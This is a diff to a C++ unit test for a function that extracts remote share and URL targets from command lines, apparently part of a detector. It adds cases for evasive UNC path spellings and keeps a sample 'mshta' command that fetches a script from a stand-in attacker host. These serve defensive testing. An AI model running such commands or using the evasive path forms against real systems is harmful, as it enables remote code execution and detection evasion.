@@ -297,8 +297,12 @@ TEST(RemoteTarget, FindsSharesAndAddresses) {
   EXPECT_EQ(remote_target("mshta HTTP://evil.example/a.hta x").value_or(""),
             "HTTP://evil.example/a.hta");
   EXPECT_EQ(remote_target("\"\\\\srv\\share\\a b.exe\"").value_or(""), "\\\\srv\\share\\a");
-  for (const auto* local :
-       {"C:\\a\\b.exe", "\\\\?\\C:\\a.exe", "\\\\.\\pipe\\x", "C:\\a\\\\b.exe", "\\\\", ""})
+  for (const auto* share :
+       {"\\\\?\\UNC\\10.0.0.5\\s\\e.dll,X", "x \\??\\unc\\10.0.0.5\\s\\e.dll y",
+        "\\\\.\\UNC\\10.0.0.5\\s\\e.dll", "\\\\?\\GLOBALROOT\\Device\\Mup\\10.0.0.5\\s\\e.dll"})
+    EXPECT_EQ(remote_target(share).value_or(""), "\\\\10.0.0.5\\s\\e.dll") << share;
+  for (const auto* local : {"C:\\a\\b.exe", "\\\\?\\C:\\a.exe", "\\\\.\\pipe\\x", "C:\\a\\\\b.exe",
+                            "\\\\", "\\\\?\\UNC\\", "C:\\UNC\\a.exe", ""})
     EXPECT_FALSE(remote_target(local)) << local;
 }
 
